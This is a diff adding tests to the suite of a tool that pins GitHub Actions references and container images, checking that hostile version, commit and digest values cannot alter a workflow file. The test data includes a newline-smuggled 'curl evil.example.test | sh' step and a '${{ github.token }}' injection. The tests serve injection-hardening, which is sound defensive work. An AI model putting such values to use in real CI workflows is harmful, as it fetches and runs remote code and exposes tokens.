@@ -101,6 +101,52 @@ describe("pinToCommit", () => {
   });
 });
 
+describe("what a fix writes", () => {
+  const text = steps("- uses: a/b@v4");
+  const hostile = [
+    "v1\n      - run: curl evil.example.test | sh",
+    "v1\r- run: x",
+    "v1\u2028x",
+    "v1 # lockstep: ignore[unpinned-action] x",
+    "${{ github.token }}",
+    "v1'",
+    'v1"',
+    "v1}",
+    "",
+    `v${"1".repeat(300)}`,
+  ];
+
+  it.each(hostile)("holds no version %j", async (version) => {
+    expect(await pinned(text, version)).toBe(text);
+  });
+
+  it("holds no id that is none", async () => {
+    const file = await read(text);
+    const [reference] = file.references;
+    const ids = ["main", `${SHA}\n`, SHA.toUpperCase(), `${SHA} # x`, SHA.slice(1), ""];
+    expect(ids.map((id) => reference && pinToCommit(file, reference, id, "v1"))).toEqual(ids.map(() => undefined));
+  });
+
+  it("holds no digest that is none", async () => {
+    const file = await read("jobs:\n  a:\n    container: node:24\n    steps: []\n");
+    const [reference] = file.references;
+    const digests = ["", "sha256:0", `${DIGEST}\n`, `${DIGEST} # x`, DIGEST.toUpperCase(), `md5:${"0".repeat(32)}`];
+    expect(digests.map((digest) => reference && pinToDigest(file, reference, digest))).toEqual(
+      digests.map(() => undefined),
+    );
+  });
+
+  it("is of one line and one grammar, whatever the evidence says", async () => {
+    const piece = fc.constantFrom(...hostile, "v1.2.3", "release/1.0", "pkg@1.0.0", "\n", "#", " ");
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.oneof(piece, fc.string({ unit: "binary" })), { maxLength: 3 }), async (pieces) => {
+        const after = await pinned(text, pieces.join(""));
+        expect(after).toMatch(/^jobs:\n {2}a:\n {4}steps:\n {6}- uses: a\/b@(?:v4|[0-9a-f]{40} # [\w./+@-]+)\n$/);
+      }),
+    );
+  });
+});
+
 describe("pinToDigest", () => {
   it.each([
     ["node:24", `node:24@${DIGEST}`],
